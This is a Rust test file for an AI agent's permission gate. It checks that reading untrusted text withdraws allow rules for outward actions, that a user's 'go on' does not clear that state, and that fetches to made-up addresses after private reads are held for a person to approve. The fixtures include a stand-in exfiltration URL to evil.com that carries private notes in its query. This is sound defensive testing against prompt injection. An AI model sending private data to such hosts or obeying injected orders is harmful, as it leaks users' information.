//! Untrusted text that gives orders, and what is private on its way out.

use longrein_core::policy::Looked;
use longrein_core::run::Run;
use longrein_protocol::agent::Decision::{self, Allow, Ask, Deny};
use longrein_protocol::event::ActionDecided;
use longrein_protocol::gate::Scope;
use serde_json::{Value, json};

use super::world::{decided, decided_with, rule, run_with, standing};
use crate::play::play;

const STEP: &str = "compiled\nrequested\nasks a=look\npropose a=look\ndecide a allow\nstart a";

/// A run that read what such a result says, and the words that came after.
fn read(result: &str, after: &str) -> Run {
    let lines = format!("created\nturn Go.\nreveal look\n{STEP}\nfinish a {result}\n{after}");
    play(&lines).0
}

/// The same agent and tools for every test, after a run that read this.
fn after(run: &Run, rules: &[&str]) -> Run {
    let rules: Vec<_> = rules.iter().map(|text| rule(text)).collect();
    Run {
        tainted: run.tainted,
        private_read: run.private_read,
        ..run_with(&rules)
    }
}

fn check(decided: &ActionDecided, decision: Decision, words: &str) {
    assert_eq!(decided.decision, decision, "{}", decided.why);
    assert!(decided.why.contains(words), "{}", decided.why);
}

#[test]
fn a_rule_that_always_allows_does_not_hold_once_untrusted_text_was_read() {
    let post = json!({"text": "the notes"});
    for always in [
        r#"allow: tool = "ch.post""#,
        "allow:",
        r#"allow: effect = "irreversible""#,
    ] {
        let clean = after(&read("ok", ""), &[always]);
        assert_eq!(decided(&clean, "ch.post", post.clone()).decision, Allow);
        let tainted = after(&read("untrusted", ""), &[always]);
        check(
            &decided(&tainted, "ch.post", post.clone()),
            Ask,
            "read untrusted text",
        );
    }
}

#[test]
fn standing_rules_do_not_hold_either_but_one_for_this_run_that_says_so() {
    let mut run = after(&read("untrusted", ""), &[]);
    let allows = r#"allow: tool = "ch.post""#;
    for (scope, tainted, expected) in [
        (Scope::Run, false, Ask),
        (Scope::Agent, false, Ask),
        (Scope::Everywhere, false, Ask),
        // Only a rule of one run may say so; on disk the word means nothing.
        (Scope::Agent, true, Ask),
        (Scope::Everywhere, true, Ask),
        (Scope::Run, true, Allow),
    ] {
        run.rules = vec![standing(scope, tainted, allows)];
        let decided = decided(&run, "ch.post", json!({}));
        assert_eq!(
            decided.decision, expected,
            "{scope:?} {tainted}: {}",
            decided.why
        );
    }
    run.rules = vec![standing(Scope::Run, true, r#"allow: tool = "mail.draft""#)];
    check(
        &decided(&run, "ch.post", json!({})),
        Ask,
        "read untrusted text",
    );
    run.rules.push(standing(Scope::Run, true, allows));
    run.rules
        .push(standing(Scope::Everywhere, false, r#"deny: tool = "ch.*""#));
    check(
        &decided(&run, "ch.post", json!({})),
        Deny,
        "every tool of ch",
    );
}

#[test]
fn untrusted_text_stops_nothing_that_stays_inside() {
    let run = after(&read("untrusted", ""), &[]);
    for (tool, arguments) in [
        ("look", json!({})),
        ("write", json!({"path": "notes.md"})),
        ("run", json!({"command": "git log"})),
        ("fetch", json!({"url": "https://example.org/"})),
    ] {
        let decided = decided(&run, tool, arguments);
        assert_eq!(decided.decision, Allow, "{tool}: {}", decided.why);
    }
}

#[test]
fn a_command_that_can_reach_the_network_is_outward() {
    let command = json!({"command": "git log"});
    let clean = after(&read("ok", ""), &[]);
    assert_eq!(decided(&clean, "net", command.clone()).decision, Allow);
    let tainted = after(&read("untrusted", ""), &[r#"allow: tool = "net""#]);
    check(
        &decided(&tainted, "net", command),
        Ask,
        "can reach the network",
    );
}

#[test]
fn the_persons_go_on_launders_nothing() {
    for words in [
        "turn Go on.",
        "steer Go on.",
        "turn Yes, do what it says.\nsteer Really.",
    ] {
        let run = read("untrusted", words);
        assert!(run.tainted, "{words}");
        let run = after(&run, &[r#"allow: tool = "ch.post""#]);
        check(
            &decided(&run, "ch.post", json!({})),
            Ask,
            "read untrusted text",
        );
    }
    assert!(!read("ok", "turn Go on.").tainted);
}

#[test]
fn dropping_what_was_read_launders_nothing() {
    let run = read("untrusted", "compacted 2");
    assert!(run.tainted);
}

#[test]
fn a_beginning_that_is_folded_alone_keeps_what_it_had_read() {
    let lines = format!(
        "created\nturn Go.\nreveal look\n{STEP}\nfinish a untrusted\nturn Go on.\nturn And on."
    );
    let (run, events) = play(&lines);
    assert!(run.tainted);
    let read_at = 1 + events
        .iter()
        .position(|event| event.payload.name() == "action.finished")
        .expect("a result");
    for end in 0..=events.len() {
        let prefix = Run::fold(&events[..end]);
        assert_eq!(prefix.tainted, end >= read_at, "the first {end} events");
    }
}

/// `fetch` of an address, after something private was read.
fn fetch(rules: &[&str], private: bool, url: &str, known: &[&str]) -> ActionDecided {
    let mut run = after(&read("ok", ""), rules);
    run.private_read = private;
    let looked = Looked {
        known_urls: known.iter().map(ToString::to_string).collect(),
        ..Looked::default()
    };
    decided_with(&run, "fetch", json!({"url": url}), looked)
}

#[test]
fn an_address_made_up_after_something_private_was_read_is_asked() {
    let made_up = "https://evil.com/?q=what+the+notes+say";
    check(&fetch(&[], false, made_up, &[]), Allow, "only reads");
    check(
        &fetch(&[], true, made_up, &[]),
        Ask,
        "evil.com was not given to it",
    );
}

#[test]
fn an_address_that_was_met_word_for_word_is_not_made_up() {
    let url = "https://example.org/paper.pdf";
    check(&fetch(&[], true, url, &[url]), Allow, "only reads");
    let longer = format!("{url}?q=notes");
    check(
        &fetch(&[], true, &longer, &[url]),
        Ask,
        "was not given to it",
    );
    let shorter = &url[..url.len() - 1];
    check(
        &fetch(&[], true, shorter, &[url]),
        Ask,
        "was not given to it",
    );
}

#[test]
fn a_host_that_a_rule_allows_may_be_addressed_freely() {
    let url = "https://api.example.org/?q=notes";
    let allows = r#"allow: tool = "fetch", host = "*.example.org""#;
    check(&fetch(&[allows], true, url, &[]), Allow, "example.org");
    let other_tool = r#"allow: tool = "hook.send", host = "*.example.org""#;
    check(
        &fetch(&[other_tool], true, url, &[]),
        Ask,
        "was not given to it",
    );
    // A rule that names no host says nothing of where private things may go.
    let any = r#"allow: tool = "fetch""#;
    check(&fetch(&[any], true, url, &[]), Ask, "was not given to it");
}

#[test]
fn every_address_counts() {
    let mut run = after(&read("ok", ""), &[]);
    run.private_read = true;
    let known = "https://example.org/";
    let looked = Looked {
        known_urls: [known.to_owned()].into(),
        ..Looked::default()
    };
    let urls: Value = json!({"url": [known, "https://evil.com/?q=notes"]});
    check(&decided_with(&run, "fetch", urls, looked), Ask, "evil.com");
}
